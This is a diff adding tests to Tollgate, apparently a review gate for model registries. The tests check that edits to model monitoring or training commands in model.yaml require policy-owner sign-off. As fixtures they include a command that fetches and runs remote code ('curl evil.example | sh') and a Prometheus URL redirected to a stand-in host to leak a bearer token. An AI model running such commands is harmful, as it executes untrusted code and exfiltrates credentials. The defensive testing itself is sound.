@@ -1,10 +1,12 @@
 // Which changes outside the registry guard the gate, and what the evaluator asks for them (pure).
+import { dump } from 'js-yaml';
 import { describe, expect, it } from 'vitest';
 import { evaluateGate } from '../../src/gate/evaluate.ts';
 import { invalidFileLine } from '../../src/gate/requirements.ts';
 import { guardOf, matchesGlob, pinsChanged, tollgatePins } from '../../src/gate/self-guard.ts';
 import { showInvisible } from '../../src/gate/invisible.ts';
 import { DEFAULT_GUARDED_PATHS, effectivePolicy } from '../../src/policy/effective.ts';
+import { diffDocuments } from '../../src/registry/diff.ts';
 import type { RegistryChange } from '../../src/registry/types.ts';
 import { approve, basePolicy, promote, scenario } from './fixture.ts';
 
@@ -136,5 +138,79 @@ describe('the evaluator on the gate’s own set-up', () => {
     expect(showInvisible('a\u200bb\u202ec\u00a0d — é → ✅\n')).toBe(
       'a\\u{200b}b\\u{202e}c\\u{a0}d — é → ✅\n',
     );
+  });
+});
+
+describe('model.yaml fields that say what Tollgate runs on its own', () => {
+  const model = (extra: Record<string, unknown> = {}) =>
+    dump({
+      apiVersion: 'tollgate/v1',
+      kind: 'Model',
+      name: 'fraud',
+      owners: { users: ['olga'] },
+      training: { command: ['python', 'train.py'], timeout: 600 },
+      ...extra,
+    });
+  const path = 'models/fraud/model.yaml';
+  const command = { source: { kind: 'command', command: ['sh', '-c', 'curl evil.example | sh'] } };
+  const prometheus = (url: string) => ({
+    source: { kind: 'prometheus', url, queries: { error_rate: 'x' }, bearer_token_env: 'PROMETHEUS_TOKEN' },
+  });
+
+  it('marks a change to monitoring or the training command as guarded, and nothing else', () => {
+    expect(diffDocuments(path, model(), model({ description: 'fraud scores' }))).toEqual([
+      { kind: 'model-changed', path, model: 'fraud' },
+    ]);
+    expect(diffDocuments(path, model(), model({ monitoring: command }))).toEqual([
+      { kind: 'model-changed', path, model: 'fraud', guarded: ['monitoring'] },
+    ]);
+    // A Prometheus URL moved elsewhere would send the bearer token there.
+    expect(
+      diffDocuments(
+        path,
+        model({ monitoring: prometheus('http://prom:9090') }),
+        model({ monitoring: prometheus('https://x.example') }),
+      ),
+    ).toEqual([{ kind: 'model-changed', path, model: 'fraud', guarded: ['monitoring'] }]);
+    const retrained = model().replace('train.py', 'train.py\n    - --steal');
+    expect(diffDocuments(path, model(), retrained)[0]).toMatchObject({ guarded: ['training.command'] });
+    // Any command a retrain runs, such as an artifact validator.
+    const validated = model().replace('timeout: 600', 'timeout: 600\n  artifact_validator: [node, check.js]');
+    expect(diffDocuments(path, model(), validated)[0]).toMatchObject({
+      guarded: ['training.artifact_validator'],
+    });
+    expect(
+      diffDocuments(path, model(), model().replace('timeout: 600', 'timeout: 900'))[0],
+    ).not.toHaveProperty('guarded');
+    expect(diffDocuments(path, undefined, model({ monitoring: command }))).toEqual([
+      { kind: 'model-added', path, model: 'fraud', guarded: ['monitoring', 'training.command'] },
+    ]);
+    expect(diffDocuments(path, model({ monitoring: command }), undefined)).toEqual([
+      { kind: 'model-removed', path, model: 'fraud' },
+    ]);
+  });
+
+  it("needs the policy owners' sign-off besides the model owners', and blocks when nobody may give it", () => {
+    const change: RegistryChange = { kind: 'model-changed', path, model: 'fraud', guarded: ['monitoring'] };
+    const owners = evaluateGate(scenario({ changes: [change], reviews: [approve('olga')] }));
+    expect(owners.conclusion).toBe('failure');
+    expect(owners.requirements.map((r) => [r.role, r.rule, r.satisfiedBy?.login])).toEqual([
+      ['model-owner (fraud)', 'model settings changed', 'olga'],
+      ['policy-owner', 'model automation (monitoring, retrain commands)', undefined],
+    ]);
+    expect(owners.changes).toEqual(['model fraud changed (monitoring)']);
+    const both = evaluateGate(scenario({ changes: [change], reviews: [approve('olga'), approve('paula')] }));
+    expect(both.conclusion).toBe('success');
+    // The same edit without a guarded field: the model's owners alone.
+    const plain = evaluateGate(
+      scenario({ changes: [{ kind: 'model-changed', path, model: 'fraud' }], reviews: [approve('olga')] }),
+    );
+    expect(plain.conclusion).toBe('success');
+    const nobody = evaluateGate(
+      scenario({ changes: [change] }, { ...basePolicy, signoff: { policy_owners: [] } }),
+    );
+    expect(nobody.blocking).toEqual([
+      expect.stringMatching(/^signoff\.policy_owners is empty, .*what a model makes Tollgate run/),
+    ]);
   });
 });
